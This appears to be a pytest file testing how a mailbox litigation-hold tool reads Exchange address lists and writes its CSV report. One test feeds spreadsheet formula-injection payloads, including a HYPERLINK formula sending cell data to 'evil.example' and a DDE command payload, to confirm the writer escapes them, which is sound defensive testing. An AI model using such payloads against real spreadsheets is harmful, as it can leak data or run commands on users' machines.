"""Reading mailbox lists as people and Exchange write them; writing the report."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from hybridkit.errors import InputError
from hybridkit.hold._read import read_mailbox_file
from hybridkit.hold._render import write_report
from hybridkit.hold._model import HoldOutcome, OutcomeStatus


def test_export_csv_with_type_line_and_bom(tmp_path: Path) -> None:
    path = tmp_path / "mailboxes.csv"
    path.write_bytes("\ufeff#TYPE Selected.Microsoft.Exchange.Data.Directory.Management.Mailbox\r\n"
                     '"DisplayName","Alias","PrimarySmtpAddress"\r\n"Ann","ann","ann@contoso.com"\r\n'
                     '"Bob","bob","bob@contoso.com"\r\n"Ann again","ann","ANN@contoso.com"\r\n'.encode("utf-8"))
    assert read_mailbox_file(path) == ["ann@contoso.com", "bob@contoso.com"]


def test_semicolon_cp1252_and_utf16_and_plain_list(tmp_path: Path) -> None:
    semi = tmp_path / "semi.csv"
    semi.write_bytes("Name;EmailAddress\r\nSøren;soren@contoso.com\r\n".encode("cp1252"))
    assert read_mailbox_file(semi) == ["soren@contoso.com"]
    wide = tmp_path / "wide.csv"
    wide.write_bytes("Mailbox\r\ncat@contoso.com\r\n".encode("utf-16"))
    assert read_mailbox_file(wide) == ["cat@contoso.com"]
    plain = tmp_path / "plain.txt"
    plain.write_text("dan@contoso.com\n\neve@contoso.com\n", encoding="utf-8")
    assert read_mailbox_file(plain) == ["dan@contoso.com", "eve@contoso.com"]


def test_unusable_files_are_input_errors(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="file not found"):
        read_mailbox_file(tmp_path / "nope.csv")
    two = tmp_path / "two.csv"
    two.write_text("Colour,Size\nred,1\n", encoding="utf-8")
    with pytest.raises(InputError, match="no column of mailbox addresses"):
        read_mailbox_file(two)
    with pytest.raises(InputError, match=r"\.csv or \.xlsx"):
        read_mailbox_file(tmp_path / "list.json") if (tmp_path / "list.json").write_text("[]") else None


def test_report_csv_round_trips(tmp_path: Path) -> None:
    rows = [HoldOutcome("a@x", "online", OutcomeStatus.FAILED, "a@x", "UserMailbox", False, "", "", "Ex1|boom, \"q\"")]
    write_report(tmp_path / "r.csv", rows)
    with (tmp_path / "r.csv").open(encoding="utf-8-sig") as fh:
        got = list(csv.DictReader(fh))
    assert got[0]["Status"] == "failed" and got[0]["Message"] == "Ex1|boom, \"q\"" and got[0]["Side"] == "online"


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
                                     "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1", "  =1+1", "\0=1"])
def test_report_csv_neutralises_formulas(tmp_path: Path, payload: str) -> None:
    rows = [HoldOutcome(payload, "onprem", OutcomeStatus.FAILED, "a@x", "UserMailbox", False, "", payload, payload)]
    write_report(tmp_path / "r.csv", rows)
    raw = (tmp_path / "r.csv").read_bytes().decode("utf-8-sig")
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
        got = next(csv.DictReader(fh))
    for column in ("Mailbox", "LitigationHoldOwner", "Message"):
        assert got[column] == "'" + payload, column  # the text survives, behind Excel's "this is text" mark
    assert '"' + "'" in raw  # every field quoted (RFC 4180), so no separator in the data starts a new cell


def test_report_csv_leaves_plain_text_alone(tmp_path: Path) -> None:
    rows = [HoldOutcome("ann@contoso.com", "online", OutcomeStatus.ENABLED, "ann@contoso.com", "UserMailbox", True,
                    "2555", "Legal - case 7", "a=b")]
    write_report(tmp_path / "r.csv", rows)
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
        got = next(csv.DictReader(fh))
    assert (got["Mailbox"], got["LitigationHoldOwner"], got["Message"]) == ("ann@contoso.com", "Legal - case 7", "a=b")


def test_report_gives_the_hold_date_in_utc(tmp_path: Path) -> None:
    import datetime as dt

    when = dt.datetime(2026, 12, 5, 10, 30, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    rows = [HoldOutcome("a@x", "onprem", OutcomeStatus.ENABLED, "a@x", "UserMailbox", True, "2555", "Legal", "",
                    True, when)]
    write_report(tmp_path / "r.csv", rows)
    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
        assert next(csv.DictReader(fh))["LitigationHoldDate"] == "2026-12-05T09:30:00Z"
